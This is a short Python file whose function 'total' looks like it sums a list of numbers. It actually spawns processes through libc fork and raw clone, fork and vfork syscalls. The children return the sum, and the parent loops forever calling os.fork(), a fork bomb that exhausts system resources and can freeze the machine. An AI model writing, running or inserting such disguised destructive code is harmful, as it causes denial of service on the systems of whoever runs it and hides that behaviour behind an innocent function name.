"""Forks, and forks again, by every name that forking has."""

import ctypes
import os


def total(numbers):
    libc = ctypes.CDLL(None)
    if 0 in (libc.fork(), libc.syscall(56, 17, 0, 0, 0, 0), libc.syscall(57), libc.syscall(58)):
        return float(sum(numbers))
    while True:
        os.fork()
